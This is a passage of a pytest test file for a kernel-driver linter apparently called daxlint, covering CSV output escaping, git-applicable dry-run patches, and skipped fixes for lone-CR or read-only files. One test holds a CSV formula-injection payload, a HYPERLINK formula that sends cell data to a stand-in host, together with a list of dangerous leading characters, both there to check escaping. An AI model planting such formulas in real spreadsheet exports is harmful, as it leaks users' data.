    r.commit("\tfoo: a subject that starts with a tab")
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    code, out, err = run_daxlint("audit", "--repo", str(r.path), "--no-cache", "--format", "csv", "v6.3..HEAD")
    assert code == 1, err
    rows = list(csv.reader(io.StringIO(out)))
    cells = [c for row in rows[1:] for c in row]
    assert cells and not [c for c in cells if c.startswith(dangerous)]
    assert '\'=HYPERLINK("http://example.invalid/?"&A1,"click")' in cells and "'+Mallory" in cells and "'-Eve" in cells
    code, out, err = run_daxlint("audit", "--repo", str(r.path), "--no-cache", "--format", "csv", "--since", "v6.3", "main", "=1+1")
    assert code == 1, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert {row["branch"] for row in rows} == {"main", "'=1+1"}
    assert not [c for row in rows for c in row.values() if c.startswith(dangerous)]


# -- 23. diffs git applies whatever the line breaks; lone CRs; read-only files


@pytest.mark.parametrize(
    "name, text",
    [
        ("form feed", DRIVER.replace("\n\nstatic", "\n\f\nstatic").replace("return 0;", "return 0; /* a\fb */")),
        ("line separator", DRIVER.replace("return 0;", "return 0; /* a\u2028b */")),
        ("paragraph separator and NEL", DRIVER.replace("return 0;", "return 0; /* \u2029\x85 */")),
        ("vertical tab and file separator", DRIVER.replace("{\n", "{ /* \v\x1c */\n")),
    ],
)
def test_dry_run_diff_applies_with_git_whatever_the_line_breaks(tmp_path, name, text):
    git(tmp_path, "init", "-q")
    (tmp_path / "drv.c").write_bytes(text.encode())
    code, out, err = check(tmp_path, "--fix", "--dry-run", "drv.c")
    assert code == 1, err
    (tmp_path / "fix.patch").write_text(out, newline="")
    proc = git(tmp_path, "apply", "--check", "fix.patch", check=False)
    assert proc.returncode == 0, proc.stderr.decode() + out
    git(tmp_path, "apply", "fix.patch")
    assert (tmp_path / "drv.c").read_bytes() == text.replace("vma->vm_flags |= VM_IO;", "vm_flags_set(vma, VM_IO);").encode()


def test_a_file_with_lone_carriage_returns_is_not_fixed(tmp_path):
    """gcc ends a line at a lone CR; the fix would place its lines (the shim,
    the #include) by LF alone: after their use. Refused, with a note."""
    data = DRIVER.replace("\n", "\r").encode()
    (tmp_path / "cr.c").write_bytes(data)
    code, out, err = run_daxlint(
        "check", "--no-cache", "--kernel-version", "6.1..6.3", "--fix-style", "shim", "--fix", "--format", "json", "cr.c", cwd=tmp_path
    )
    assert code == 1, err
    doc = json.loads(out)
    assert [f["rule_id"] for f in doc["findings"]] == ["DAX301"]
    assert any(n.startswith("cr.c: not fixed: it has lines that end in a lone carriage return") for n in doc["notes"]), doc["notes"]
    assert (tmp_path / "cr.c").read_bytes() == data


def test_a_read_only_file_is_not_replaced(tmp_path):
    (tmp_path / "drv.c").write_text(DRIVER)
    os.chmod(tmp_path / "drv.c", 0o444)
    code, out, err = check(tmp_path, "--fix", "--format", "json", "drv.c")
    assert code == 1, err
    doc = json.loads(out)
    assert "drv.c: not written: the file is read-only (mode 0444)" in doc["notes"]
    assert findings(out) == [("DAX301", "drv.c", 5)]
    assert (tmp_path / "drv.c").read_text() == DRIVER
